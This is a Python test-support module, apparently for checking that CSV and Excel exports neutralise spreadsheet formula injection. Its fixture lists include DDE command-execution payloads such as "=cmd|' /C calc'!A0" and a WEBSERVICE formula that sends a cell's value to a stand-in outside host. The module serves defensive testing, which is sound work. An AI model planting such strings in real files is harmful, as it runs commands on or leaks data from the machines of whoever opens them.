"""Sixty texts by which a file harms whoever opens it, or breaks; and how files are read here, by no code of ours."""

import csv
import io
import zipfile
from typing import Any
from xml.etree.ElementTree import Element

from defusedxml.ElementTree import fromstring

COMPUTED = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example","here")', "=IMPORTXML(A1)", "==1", "=",
    '=WEBSERVICE("https://elsewhere.example/"&A1)', "=A1:A9", "=SUM(1,2)", '="a"&"b"', "=DDE(1)", "=\t1", "=\n1",
    "+1", "+", "+1+cmd|' /C calc'!A0", "+49 40 123456", "++", "+A1", "-1", "-", "-1+1", "-cmd|' /C calc'!A0",
    "- a list", "--", "@SUM(A1)", "@", "@all", "@A1", "\t=1+1", "\t", "\ttext", "\r=1+1", "\r", "\n=1+1", "\n",
    "\r\n=1+1", "\n-1",
]  # fmt: skip
"""Texts that a spreadsheet would compute, or that begin as one of these."""
OTHERS = [
    "'=1+1", "'quoted", "''", "'", "a,b", 'a"b', '"', ",", "a\nb", "a\r\nb", ";=1+1", "a;=1+1;b", " =1+1", "1,5",
    "00123", "1e9", "TRUE", "null", "https://elsewhere.example/", "mailto:a@elsewhere.example", "internal:Sheet1!A1",
    "<f>1+1</f>", "]]>", "&amp;<b>", "_x0041_", "_x000D_", "{=1+1}", "Ünï çödé 漢字 🙂", "\u202ereversed", "x" * 2_000,
]  # fmt: skip
TEXTS = COMPUTED + OTHERS
DANGEROUS = "=+-@\t\r\n\0"
"""With which no text in a CSV may begin."""


def cells(content: bytes) -> list[list[str]]:
    """The cells of a CSV, its mark taken away, as Python's own reader has them."""
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def parts(content: bytes) -> dict[str, bytes]:
    """The files in a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


def formulas(content: bytes) -> list[Element]:
    """Whatever is computed in a workbook, or leads out of it."""
    found: list[Element] = []
    for name, part in parts(content).items():
        if name.endswith((".xml", ".rels")):
            found += [each for each in fromstring(part).iter() if _is_active(each)]
    return found


def _is_active(element: Element) -> bool:
    tag = element.tag.rpartition("}")[2]
    return tag in {"f", "hyperlink", "externalReference", "ddeLink", "oleLink"} or (
        element.get("TargetMode") == "External"
    )


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    """The rows of each sheet, as another library reads them."""
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}
